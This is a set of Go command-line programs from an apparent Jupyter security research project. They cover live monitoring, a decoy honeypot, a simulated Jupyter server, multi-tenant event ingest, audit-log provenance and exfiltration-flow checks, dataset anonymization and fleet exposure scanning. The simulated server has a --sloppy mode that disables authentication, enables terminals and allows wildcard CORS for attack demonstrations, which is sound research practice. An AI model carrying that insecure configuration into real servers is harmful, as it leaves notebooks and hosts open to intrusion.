		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jsentinel: monitored server on http://%s (token %s)\n", bound, token)
	fmt.Println("jsentinel: streaming alerts; Ctrl-C for final report")

	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	_ = srv.Close()
	for _, st := range stages {
		st.Close() // drain queued events before the final report
	}
	if rec != nil {
		if err := rec.Close(); err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: recording: %v\n", err)
		} else {
			fmt.Printf("jsentinel: tapped stream recorded to %s\n", logPath)
		}
	}
	if hrec != nil {
		// Stages are drained, so every queued event's alerts and
		// incident updates have already landed in the history.
		closeHistory(hrec, history)
	}

	vis := mon.Visibility()
	fmt.Printf("\nwire visibility: conns=%d bytes=%d http=%d ws_frames=%d jupyter_msgs=%d\n",
		vis.Conns, vis.BytesTotal, vis.HTTPRequests, vis.WSFrames, vis.JupyterMessages)
	fmt.Print(eng.Report(time.Now()).Render())
	fmt.Print(renderTopIncidents(eng.Incidents(), topK))

	if zeekOut != "" {
		f, err := os.Create(zeekOut)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			return
		}
		defer f.Close()
		if err := mon.WriteAllLogs(f); err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: zeek export: %v\n", err)
			return
		}
		fmt.Printf("jsentinel: Zeek logs written to %s\n", zeekOut)
	}
}
