// Command jhoneypot runs a decoy Jupyter server at the "network edge",
// records attacker interactions, and on shutdown prints fingerprints
// and writes the extracted threat-intel bundle.
//
//	jhoneypot --id edge-hp-1 --intel intel.json
package main

import (
	"flag"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"repro/internal/honeypot"
)

func main() {
	id := flag.String("id", "edge-hp-1", "honeypot identifier (namespaces extracted signatures)")
	intelPath := flag.String("intel", "intel.json", "write the threat-intel bundle here on exit")
	flag.Parse()

	hp, err := honeypot.New(honeypot.Config{ID: *id})
	if err != nil {
		fmt.Fprintf(os.Stderr, "jhoneypot: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jhoneypot: decoy %q listening on http://%s (deliberately open, baited)\n", *id, hp.Addr)
	fmt.Println("jhoneypot: Ctrl-C to stop and publish intel")

	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	_ = hp.Close()

	fps := hp.Fingerprints()
	fmt.Printf("\njhoneypot: %d interactions from %d sources\n", len(hp.Interactions()), len(fps))
	for _, fp := range fps {
		fmt.Printf("  %s: requests=%d execs=%d term=%d classes=%v\n",
			fp.SrcIP, fp.Requests, fp.Executions, fp.TermCommands, fp.Classes)
	}

	bundle := hp.PublishIntel(time.Now())
	data, err := bundle.Marshal()
	if err != nil {
		fmt.Fprintf(os.Stderr, "jhoneypot: %v\n", err)
		os.Exit(1)
	}
	if err := os.WriteFile(*intelPath, data, 0o644); err != nil {
		fmt.Fprintf(os.Stderr, "jhoneypot: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jhoneypot: wrote %d indicators and %d extracted signatures to %s\n",
		len(bundle.Indicators), len(bundle.Rules), *intelPath)
}
