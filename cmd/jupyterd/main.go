// Command jupyterd runs the simulated Jupyter server.
//
// By default it boots the hardened configuration and prints the token.
// The --sloppy flag boots the exposed archetype (auth off, terminals
// on, wildcard CORS) used for attack demonstrations and honeypots.
//
// Trace events stream to --log: an event-store directory by default
// (segmented, indexed, replayable with jsentinel --replay DIR and its
// filters), or a legacy flat JSONL file when the path ends in .jsonl.
// New store segments use the compact binary-v2 codec unless
// --codec=json asks for v1 JSON frames; readers dispatch per segment,
// so a log that mixes codecs across restarts replays identically.
// On SIGINT or SIGTERM the server shuts down cleanly and flushes the
// log's buffered writes before exiting — a signal never tears the
// recording's tail.
//
// Kernels execute minilang on the bytecode VM by default;
// --engine=tree selects the reference tree-walking interpreter (the
// differential-testing oracle) instead. Both are observably
// equivalent, so the flag only trades speed for simplicity.
//
//	jupyterd --addr 127.0.0.1:8888
//	jupyterd --sloppy --log ./events-store
//	jupyterd --sloppy --log ./events-store --codec=json
//	jupyterd --sloppy --log events.jsonl
//	jupyterd --engine=tree
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"

	"repro/internal/auth"
	"repro/internal/evstore"
	"repro/internal/kernel/minilang"
	"repro/internal/misconfig"
	"repro/internal/server"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:0", "listen address")
	sloppy := flag.Bool("sloppy", false, "run with every misconfiguration (demo/honeypot mode)")
	token := flag.String("token", "", "bearer token (generated if empty)")
	logPath := flag.String("log", "", "record trace events here: an event-store directory, or JSONL when the path ends in .jsonl")
	terminals := flag.Bool("terminals", false, "enable terminals on hardened config")
	scan := flag.Bool("scan", false, "print misconfiguration scan of the chosen config and exit")
	codecFlag := flag.String("codec", "", "segment format for new --log store segments: binary (default) or json")
	engine := flag.String("engine", "", "minilang kernel engine: vm (default) or tree")
	flag.Parse()

	codec, err := evstore.ParseCodec(*codecFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jupyterd: %v\n", err)
		os.Exit(2)
	}
	if !minilang.ValidEngine(*engine) {
		fmt.Fprintf(os.Stderr, "jupyterd: bad --engine %q (want %q or %q)\n",
			*engine, minilang.EngineVM, minilang.EngineTree)
		os.Exit(2)
	}

	var cfg server.Config
	if *sloppy {
		cfg = server.SloppyConfig()
	} else {
		tok := *token
		if tok == "" {
			tok = auth.GenerateToken()
		}
		cfg = server.HardenedConfig(tok)
		cfg.EnableTerminals = *terminals
	}
	host, portStr, err := net.SplitHostPort(*addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jupyterd: bad --addr: %v\n", err)
		os.Exit(2)
	}
	cfg.BindAddress = host
	cfg.Port, _ = strconv.Atoi(portStr)
	cfg.KernelEngine = *engine

	if *scan {
		fmt.Print(misconfig.Render(misconfig.Scan(cfg)))
		return
	}

	srv := server.NewServer(cfg)
	// closeLog flushes the event log on shutdown and returns the first
	// write error, so a torn log never exits 0.
	closeLog := func() error { return nil }
	if *logPath != "" {
		h, err := evstore.OpenSink(*logPath, evstore.SinkAppend, codec)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jupyterd: %v\n", err)
			os.Exit(1)
		}
		for _, loss := range h.Recovered {
			fmt.Fprintf(os.Stderr, "jupyterd: recovered %s: %d bytes truncated (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
		}
		if h.ExistingEvents > 0 {
			// A server log legitimately spans restarts; say so rather
			// than silently growing an old recording.
			fmt.Fprintf(os.Stderr, "jupyterd: appending to existing event store (%d events recorded)\n",
				h.ExistingEvents)
		}
		srv.Bus().Subscribe(h)
		closeLog = h.Close
	}

	bound, err := srv.Start()
	if err != nil {
		fmt.Fprintf(os.Stderr, "jupyterd: %v\n", err)
		os.Exit(1)
	}
	mode := "hardened"
	if *sloppy {
		mode = "SLOPPY (deliberately misconfigured)"
	}
	fmt.Printf("jupyterd: serving on http://%s (%s)\n", bound, mode)
	if !cfg.Auth.DisableAuth {
		fmt.Printf("jupyterd: token: %s\n", cfg.Auth.Token)
		fmt.Printf("jupyterd: try: curl -H 'Authorization: token %s' http://%s/api/status\n",
			cfg.Auth.Token, bound)
	} else {
		fmt.Printf("jupyterd: auth DISABLED — findings:\n%s",
			indent(misconfig.Render(misconfig.Scan(cfg))))
	}

	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	fmt.Println("\njupyterd: shutting down")
	_ = srv.Close()
	if err := closeLog(); err != nil {
		fmt.Fprintf(os.Stderr, "jupyterd: event log: %v\n", err)
		os.Exit(1)
	}
}

func indent(s string) string {
	return "  " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n  ") + "\n"
}
