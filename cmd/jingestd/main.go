// Command jingestd runs the multi-tenant live ingest front-end: it
// terminates agent event streams (HTTP batches and WebSockets),
// authenticates each connection with a per-tenant HMAC token, applies
// per-tenant quotas and backpressure, and routes accepted events into
// the live detection engine and/or a replayable event store.
//
// Tenants are declared as name=secret pairs; each tenant's bearer
// token is derived (HMAC-SHA256) from its secret and printed at
// startup, or minted offline with --mint for distribution to agents.
//
//	jingestd --tenants acme=s3cret,globex=hunter2 --store ./events
//	jingestd --tenants acme=s3cret --store ./events --codec=json
//	jingestd --tenants acme=s3cret --policy drop --rate 500 --burst 100
//	jingestd --tenants acme=s3cret --mint acme
//
// New --store segments use the compact binary-v2 codec by default;
// --codec=json records v1 JSON segments instead. Replay dispatches
// per segment, so stores that mix codecs across restarts replay
// identically. The JSONL wire format agents POST is unchanged either
// way — the codec only affects the on-disk segment frames.
//
// Agents POST JSONL event batches to /ingest or stream them over
// /ingest/ws (one JSONL batch per message) with headers:
//
//	X-Tenant: acme
//	Authorization: Bearer <token>
//
// /stats serves live per-tenant counters; /healthz reports 503 once
// draining. On SIGINT/SIGTERM the daemon stops admitting work, drains
// every tenant queue, flushes and closes the store — and the indexed
// alert/incident history recorded next to it (default <store>/history
// when detection is on; jsentinel query reads it back) — then prints
// the final per-tenant accounting plus the incident report. A clean
// signal never loses an accepted event. --retain-events/
// --retain-history cap the sealed segment counts at drain, events
// compacting before history so raw data never outlives its summary
// tier the wrong way around.
package main

import (
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"repro/internal/auth"
	"repro/internal/core"
	"repro/internal/evstore"
	"repro/internal/histstore"
	"repro/internal/ingest"
	"repro/internal/trace"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:0", "listen address")
	tenantsFlag := flag.String("tenants", "", "comma-separated name=secret tenant declarations (required)")
	mint := flag.String("mint", "", "print the bearer token for this tenant and exit")
	storePath := flag.String("store", "", "record accepted events to this event-store directory (replayable with jsentinel --replay)")
	detect := flag.Bool("detect", true, "run the detection engine live and print the incident report on shutdown")
	policy := flag.String("policy", "block", "default backpressure policy: block (lossless) or drop (shed newest, counted)")
	tenantPolicy := flag.String("tenant-policy", "", "per-tenant policy overrides, e.g. acme=drop,globex=block")
	rate := flag.Float64("rate", 0, "per-tenant event quota in events/sec (0 = unlimited)")
	burst := flag.Int("burst", 0, "quota burst size (default max(1, rate))")
	maxConns := flag.Int("max-conns", 4096, "max concurrently admitted connections across all tenants")
	queue := flag.Int("queue", 1024, "per-tenant queue depth")
	topK := flag.Int("top", 10, "incidents to list in the shutdown report")
	codecFlag := flag.String("codec", "", "segment format for new --store segments: binary (default) or json")
	history := flag.String("history", "", "record alert/incident history here for jsentinel query (defaults to <store>/history when --store and --detect are on; \"none\" disables)")
	retainEvents := flag.Int("retain-events", -1, "at drain, keep at most this many sealed event segments (-1 = keep all)")
	retainHistory := flag.Int("retain-history", -1, "at drain, keep at most this many sealed history segments (-1 = keep all); events always compact first")
	flag.Parse()

	keyring, err := parseTenants(*tenantsFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
		os.Exit(2)
	}
	codec, err := evstore.ParseCodec(*codecFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
		os.Exit(2)
	}
	if *mint != "" {
		tok, ok := keyring.Mint(*mint)
		if !ok {
			fmt.Fprintf(os.Stderr, "jingestd: unknown tenant %q\n", *mint)
			os.Exit(2)
		}
		fmt.Println(tok)
		return
	}

	cfg := ingest.Config{
		Keyring:  keyring,
		MaxConns: *maxConns,
		Queue:    *queue,
		Rate:     *rate,
		Burst:    *burst,
	}
	if cfg.Policy, err = parsePolicy(*policy); err != nil {
		fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
		os.Exit(2)
	}
	if cfg.TenantPolicy, err = parseTenantPolicies(*tenantPolicy, keyring); err != nil {
		fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
		os.Exit(2)
	}

	// The sink fan-out: live engine, durable store, either, or both.
	// With both, the engine's alert/incident stream lands in an
	// indexed history next to the store (default <store>/history,
	// appended across restarts like the store itself), so the daemon's
	// detection results are queryable offline with jsentinel query.
	var sinks []trace.Sink
	var eng *core.Engine
	var hrec *histstore.Recorder
	if *history == "" && *storePath != "" && *detect {
		*history = filepath.Join(*storePath, "history")
	}
	if *detect && *history != "" && *history != "none" {
		hs, err := histstore.OpenWith(*history, histstore.OpenAppend, histstore.Options{})
		if err != nil {
			fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
			os.Exit(1)
		}
		for _, loss := range hs.Recovered() {
			fmt.Fprintf(os.Stderr, "jingestd: recovered %s: %d bytes truncated (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
		}
		hrec = histstore.NewRecorder(hs)
	}
	if *detect {
		engOpts := core.DefaultOptions()
		if hrec != nil {
			engOpts.OnAlert = hrec.OnAlert
			engOpts.OnIncidentUpdate = hrec.OnIncidentUpdate
		}
		var err error
		if eng, err = core.NewEngine(engOpts); err != nil {
			fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
			os.Exit(1)
		}
		sinks = append(sinks, eng)
	}
	closeStore := func() error { return nil }
	var eventStore *evstore.Store
	if *storePath != "" {
		h, err := evstore.OpenSink(*storePath, evstore.SinkAppend, codec)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
			os.Exit(1)
		}
		for _, loss := range h.Recovered {
			fmt.Fprintf(os.Stderr, "jingestd: recovered %s: %d bytes truncated (%s)\n",
				loss.Segment, loss.LostBytes, loss.Reason)
		}
		if h.ExistingEvents > 0 {
			fmt.Fprintf(os.Stderr, "jingestd: appending to existing event store (%d events recorded)\n",
				h.ExistingEvents)
		}
		sinks = append(sinks, h)
		closeStore = h.Close
		eventStore = h.Store
	}

	svc := ingest.New(cfg, trace.Tee(sinks...))
	bound, err := svc.Start(*addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jingestd: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jingestd: ingest on http://%s (policy %s, %d tenants)\n",
		bound, cfg.Policy, len(keyring.Tenants()))
	for _, name := range keyring.Tenants() {
		tok, _ := keyring.Mint(name)
		fmt.Printf("jingestd: tenant %-16s token %s\n", name, tok)
	}
	fmt.Println("jingestd: POST /ingest or stream /ingest/ws; /stats for counters; Ctrl-C to drain")

	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	fmt.Println("\njingestd: draining")
	svc.Drain()

	fmt.Print(svc.Stats().RenderTenantTable())
	if err := closeStore(); err != nil {
		fmt.Fprintf(os.Stderr, "jingestd: event store: %v\n", err)
		os.Exit(1)
	}
	var histStore *histstore.Store
	if hrec != nil {
		histStore = hrec.Store()
		if err := histStore.Close(); err != nil {
			fmt.Fprintf(os.Stderr, "jingestd: history: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("jingestd: history recorded to %s (%s)\n", *history, histStore.Stats().Render())
	}
	// Tiered retention runs after both stores have sealed, so the
	// active segments count toward the kept tally. Events compact
	// first, history last: as long as an event segment survives its
	// history can be re-derived, never the other way around.
	if *retainEvents >= 0 || *retainHistory >= 0 {
		res, err := histstore.ApplyTieredRetention(eventStore, histStore, *retainEvents, *retainHistory)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jingestd: retention: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("jingestd: retention dropped %d event segments, %d history segments\n",
			res.EventSegmentsDropped, res.HistorySegmentsDropped)
	}
	if eng != nil {
		fmt.Print(eng.Report(time.Now()).Render())
		fmt.Print(core.RenderTopIncidents(eng.Incidents(), *topK))
	}
}

func parseTenants(spec string) (*auth.Keyring, error) {
	if strings.TrimSpace(spec) == "" {
		return nil, fmt.Errorf("--tenants is required (name=secret[,name=secret...])")
	}
	kr := auth.NewKeyring()
	for _, pair := range strings.Split(spec, ",") {
		name, secret, ok := strings.Cut(strings.TrimSpace(pair), "=")
		if !ok {
			return nil, fmt.Errorf("bad tenant declaration %q: want name=secret", pair)
		}
		if err := kr.AddTenant(name, []byte(secret)); err != nil {
			return nil, err
		}
	}
	return kr, nil
}

func parsePolicy(s string) (trace.DropPolicy, error) {
	switch s {
	case "block":
		return trace.Block, nil
	case "drop":
		return trace.DropNewest, nil
	}
	return trace.Block, fmt.Errorf("bad policy %q: want block or drop", s)
}

func parseTenantPolicies(spec string, kr *auth.Keyring) (map[string]trace.DropPolicy, error) {
	if strings.TrimSpace(spec) == "" {
		return nil, nil
	}
	declared := map[string]bool{}
	for _, name := range kr.Tenants() {
		declared[name] = true
	}
	out := map[string]trace.DropPolicy{}
	for _, pair := range strings.Split(spec, ",") {
		name, pol, ok := strings.Cut(strings.TrimSpace(pair), "=")
		if !ok {
			return nil, fmt.Errorf("bad tenant policy %q: want name=block|drop", pair)
		}
		// An override for an undeclared tenant is a configuration typo
		// worth failing fast on.
		if !declared[name] {
			return nil, fmt.Errorf("tenant policy for undeclared tenant %q", name)
		}
		p, err := parsePolicy(pol)
		if err != nil {
			return nil, err
		}
		out[name] = p
	}
	return out, nil
}
