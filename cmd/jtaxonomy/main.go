// Command jtaxonomy regenerates the paper's figures as machine-
// produced artifacts: Fig. 1 (the attack taxonomy), Fig. 3 / Table 1
// (the OSCRP mapping), and the JSON registry for downstream tooling.
//
//	jtaxonomy -fig1
//	jtaxonomy -fig3
//	jtaxonomy -json
package main

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/oscrp"
	"repro/internal/taxonomy"
)

func main() {
	fig1 := flag.Bool("fig1", false, "render Fig. 1: taxonomy of attacks")
	fig3 := flag.Bool("fig3", false, "render Fig. 3 / Table 1: OSCRP mapping")
	jsonOut := flag.Bool("json", false, "emit the taxonomy registry as JSON")
	flag.Parse()

	if !*fig1 && !*fig3 && !*jsonOut {
		*fig1, *fig3 = true, true
	}

	reg := taxonomy.Default()
	if err := reg.Validate(); err != nil {
		fmt.Fprintf(os.Stderr, "jtaxonomy: registry invalid: %v\n", err)
		os.Exit(1)
	}
	profile := oscrp.Default()
	if err := profile.Validate(); err != nil {
		fmt.Fprintf(os.Stderr, "jtaxonomy: profile invalid: %v\n", err)
		os.Exit(1)
	}

	if *fig1 {
		fmt.Print(reg.Render())
		fmt.Println()
	}
	if *fig3 {
		fmt.Print(profile.Render())
		fmt.Println()
	}
	if *jsonOut {
		data, err := reg.JSON()
		if err != nil {
			fmt.Fprintf(os.Stderr, "jtaxonomy: %v\n", err)
			os.Exit(1)
		}
		os.Stdout.Write(data)
		fmt.Println()
	}
}
