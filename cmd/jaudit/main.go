// Command jaudit inspects kernel audit logs: verifies the hash chain,
// summarizes per-kernel activity, and answers provenance queries.
//
//	jaudit --log audit.jsonl --verify
//	jaudit --log audit.jsonl --who-touched notebooks/exp.ipynb
//	jaudit --log audit.jsonl --exfiltrated
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"

	"repro/internal/audit"
)

func main() {
	logPath := flag.String("log", "", "audit log JSONL file")
	verify := flag.Bool("verify", false, "verify the hash chain")
	whoTouched := flag.String("who-touched", "", "list executions that touched this path")
	blast := flag.Uint64("blast-radius", 0, "list artifacts reached by this exec seq")
	exfil := flag.Bool("exfiltrated", false, "list file -> endpoint data flows")
	summary := flag.Bool("summary", true, "print per-kernel summaries")
	flag.Parse()

	if *logPath == "" {
		fmt.Fprintln(os.Stderr, "jaudit: need --log FILE")
		os.Exit(2)
	}
	records, err := readRecords(*logPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jaudit: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jaudit: %d records\n", len(records))

	if *verify {
		if i := audit.Verify(records); i >= 0 {
			fmt.Printf("CHAIN BROKEN at record %d (seq %d): log has been tampered with\n",
				i, records[i].Seq)
			os.Exit(1)
		}
		fmt.Println("hash chain intact")
	}

	prov := audit.BuildProvenance(records)

	if *whoTouched != "" {
		execs := prov.WhoTouched(*whoTouched)
		fmt.Printf("executions touching %s: %d\n", *whoTouched, len(execs))
		for _, r := range execs {
			fmt.Printf("  seq=%d kernel=%s user=%s time=%s\n    code: %.120s\n",
				r.Seq, r.KernelID, r.User, r.Time.Format("15:04:05"), r.Detail)
		}
	}

	if *blast > 0 {
		edges := prov.Reached(*blast)
		fmt.Printf("artifacts reached by exec %d: %d\n", *blast, len(edges))
		for _, e := range edges {
			fmt.Printf("  %-10s %-16s %s (%d bytes)\n", e.Relation, e.Kind, e.Target, e.Bytes)
		}
	}

	if *exfil {
		flows := prov.Exfiltrated()
		if len(flows) == 0 {
			fmt.Println("no read->network flows found")
		}
		files := make([]string, 0, len(flows))
		for f := range flows {
			files = append(files, f)
		}
		sort.Strings(files)
		for _, f := range files {
			fmt.Printf("POSSIBLE EXFIL: %s -> %v\n", f, flows[f])
		}
	}

	if *summary {
		sums := audit.Summarize(records)
		ids := make([]string, 0, len(sums))
		for id := range sums {
			ids = append(ids, id)
		}
		sort.Strings(ids)
		fmt.Printf("%-12s %6s %6s %6s %6s %6s %6s\n",
			"KERNEL", "EXECS", "READS", "WRITES", "DELS", "NET", "SHELL")
		for _, id := range ids {
			s := sums[id]
			fmt.Printf("%-12s %6d %6d %6d %6d %6d %6d\n",
				id, s.Executions, s.Reads, s.Writes, s.Deletes, s.NetOps, s.ShellOps)
		}
	}
}

func readRecords(path string) ([]audit.Record, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []audit.Record
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 0, 64*1024), 16<<20)
	for sc.Scan() {
		if len(sc.Bytes()) == 0 {
			continue
		}
		var r audit.Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			return nil, fmt.Errorf("line %d: %w", len(out)+1, err)
		}
		out = append(out, r)
	}
	return out, sc.Err()
}
