// Command jdataset produces the privacy-preserving shareable form of a
// trace log — the "Jupyter Security & Resiliency Data Set" pipeline
// the paper calls for. Identities are pseudonymized under a site key,
// code payloads are reduced to structural features, and a leak scan
// verifies no requested secret survives in the output.
//
//	jdataset --in events.jsonl --out shared.jsonl --key sitekey.txt
//	jdataset --in events.jsonl --out shared.jsonl --deny alice --deny 10.0.0.5
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"repro/internal/anonymize"
	"repro/internal/trace"
)

type denyList []string

func (d *denyList) String() string     { return strings.Join(*d, ",") }
func (d *denyList) Set(s string) error { *d = append(*d, s); return nil }

func main() {
	in := flag.String("in", "", "input trace JSONL")
	out := flag.String("out", "", "output anonymized JSONL")
	keyFile := flag.String("key", "", "site key file (random key generated if empty)")
	var deny denyList
	flag.Var(&deny, "deny", "secret string that must not appear in output (repeatable)")
	flag.Parse()

	if *in == "" || *out == "" {
		fmt.Fprintln(os.Stderr, "jdataset: need --in FILE and --out FILE")
		os.Exit(2)
	}
	var key []byte
	if *keyFile != "" {
		k, err := os.ReadFile(*keyFile)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jdataset: %v\n", err)
			os.Exit(1)
		}
		key = k
	} else {
		key = []byte(fmt.Sprintf("ephemeral-%d", os.Getpid()))
		fmt.Fprintln(os.Stderr, "jdataset: warning: ephemeral key; pseudonyms not stable across runs")
	}

	f, err := os.Open(*in)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: %v\n", err)
		os.Exit(1)
	}
	events, err := trace.ReadJSONL(f)
	f.Close()
	if err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: parse: %v\n", err)
		os.Exit(1)
	}

	anon := anonymize.New(key)
	shared := anon.Dataset(events)

	// Leak scan before anything touches disk.
	for i, e := range shared {
		for _, secret := range deny {
			for _, field := range []string{e.User, e.SrcIP, e.DstIP, e.Code, e.Detail, e.Target, e.Path} {
				if secret != "" && strings.Contains(field, secret) {
					fmt.Fprintf(os.Stderr, "jdataset: LEAK: event %d field contains %q — refusing to write\n", i, secret)
					os.Exit(1)
				}
			}
		}
	}

	of, err := os.Create(*out)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: %v\n", err)
		os.Exit(1)
	}
	defer of.Close()
	w := trace.NewJSONLWriter(of)
	for _, e := range shared {
		w.Emit(e)
	}
	if err := w.Flush(); err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: write: %v\n", err)
		os.Exit(1)
	}
	rep := anon.Report()
	fmt.Printf("jdataset: %d events anonymized -> %s (%d pseudonymous users, %d hosts)\n",
		len(shared), *out, rep.Users, rep.Hosts)
}
