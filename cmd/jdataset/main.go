// Command jdataset produces the privacy-preserving shareable form of a
// trace log — the "Jupyter Security & Resiliency Data Set" pipeline
// the paper calls for. Identities are pseudonymized under a site key,
// code payloads are reduced to structural features, and a leak scan
// verifies no requested secret survives in the output.
//
// The input is either a JSONL trace file or an event-store directory
// (jupyterd --log / jscan --events); the shareable output is always
// flat JSONL, since that is the interchange format the dataset
// consumers expect.
//
//	jdataset --in events.jsonl --out shared.jsonl --key sitekey.txt
//	jdataset --in ./events-store --out shared.jsonl --deny alice --deny 10.0.0.5
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"repro/internal/anonymize"
	"repro/internal/evstore"
	"repro/internal/trace"
)

type denyList []string

func (d *denyList) String() string     { return strings.Join(*d, ",") }
func (d *denyList) Set(s string) error { *d = append(*d, s); return nil }

func main() {
	in := flag.String("in", "", "input trace: JSONL file or event-store directory")
	out := flag.String("out", "", "output anonymized JSONL")
	keyFile := flag.String("key", "", "site key file (random key generated if empty)")
	var deny denyList
	flag.Var(&deny, "deny", "secret string that must not appear in output (repeatable)")
	flag.Parse()

	if *in == "" || *out == "" {
		fmt.Fprintln(os.Stderr, "jdataset: need --in FILE and --out FILE")
		os.Exit(2)
	}
	var key []byte
	if *keyFile != "" {
		k, err := os.ReadFile(*keyFile)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jdataset: %v\n", err)
			os.Exit(1)
		}
		key = k
	} else {
		key = []byte(fmt.Sprintf("ephemeral-%d", os.Getpid()))
		fmt.Fprintln(os.Stderr, "jdataset: warning: ephemeral key; pseudonyms not stable across runs")
	}

	events, err := readTrace(*in)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: %v\n", err)
		os.Exit(1)
	}

	anon := anonymize.New(key)
	shared := anon.Dataset(events)

	// Leak scan before anything touches disk.
	for i, e := range shared {
		for _, secret := range deny {
			for _, field := range []string{e.User, e.SrcIP, e.DstIP, e.Code, e.Detail, e.Target, e.Path} {
				if secret != "" && strings.Contains(field, secret) {
					fmt.Fprintf(os.Stderr, "jdataset: LEAK: event %d field contains %q — refusing to write\n", i, secret)
					os.Exit(1)
				}
			}
		}
	}

	of, err := os.Create(*out)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: %v\n", err)
		os.Exit(1)
	}
	defer of.Close()
	w := trace.NewJSONLWriter(of)
	for _, e := range shared {
		w.Emit(e)
	}
	if err := w.Flush(); err != nil {
		fmt.Fprintf(os.Stderr, "jdataset: write: %v\n", err)
		os.Exit(1)
	}
	rep := anon.Report()
	fmt.Printf("jdataset: %d events anonymized -> %s (%d pseudonymous users, %d hosts)\n",
		len(shared), *out, rep.Users, rep.Hosts)
}

// readTrace loads the whole input trace (the anonymizer and leak scan
// are whole-dataset passes) from a JSONL file or a store directory.
// Store corruption is surfaced, never swallowed: a shared dataset
// that silently dropped events would misrepresent the site's traffic.
func readTrace(path string) ([]trace.Event, error) {
	st, err := os.Stat(path)
	if err != nil {
		return nil, err
	}
	if st.IsDir() {
		store, err := evstore.OpenRead(path)
		if err != nil {
			return nil, err
		}
		var events []trace.Event
		stats, err := store.Scan(evstore.Filter{}, func(e trace.Event) error {
			events = append(events, e)
			return nil
		})
		if err != nil {
			return nil, err
		}
		if stats.TailLossBytes > 0 {
			fmt.Fprintf(os.Stderr,
				"jdataset: warning: input store has %d corrupt trailing bytes; the shared dataset omits the lost events\n",
				stats.TailLossBytes)
		}
		return events, nil
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	events, err := trace.ReadJSONL(f)
	if err != nil {
		return nil, fmt.Errorf("parse: %w", err)
	}
	return events, nil
}
