// Command jscan is the exposure scanner: it audits a named
// configuration preset, probes a live server the way an internet
// scanner would, or runs a fleet census — spawning N simulated
// servers with misconfiguration presets sampled from the paper's
// taxonomy and deep-scanning them through a bounded, rate-limited
// worker pool with any set of scanner suites (config posture, live
// probe, notebook deep scan, crypto inventory, threat-intel
// enrichment). Census findings are also pushed through the full core
// detection engine — signatures, incident correlation, OSCRP risk
// scoring — so a sweep does not just alert like live monitoring, it
// produces per-target incidents and a risk-ranked summary.
//
//	jscan --preset sloppy
//	jscan --preset hardened
//	jscan --probe 127.0.0.1:8888
//	jscan --fleet 64 --workers 8 --seed 1
//	jscan --fleet 64 --suites misconfig,nbscan,crypto,intel
//	jscan --fleet 64 --rate 100 --resume sweep.ckpt --jsonl results.jsonl --events ./census-store
//	jscan --fleet 64 --events findings.jsonl   (legacy flat JSONL stream)
//	jscan --fleet 64 --events ./census-store --codec=json   (v1 JSON segments)
//
// Store recordings default to the compact binary-v2 segment codec;
// --codec=json keeps v1 JSON segments for tooling that greps frames.
// Readers dispatch per segment, so either codec (or a mix) replays
// identically.
//
// When --events records to a store directory, the alerts and incident
// snapshots the core engine correlates also land in an indexed
// history at <events>/history (internal/histstore; --history moves
// it, "none" disables), so the census is queryable afterwards —
// `jsentinel query <events-store> --severity high` — without
// re-running detection.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"time"

	"repro/internal/core"
	"repro/internal/cryptoaudit"
	"repro/internal/evstore"
	"repro/internal/fleet"
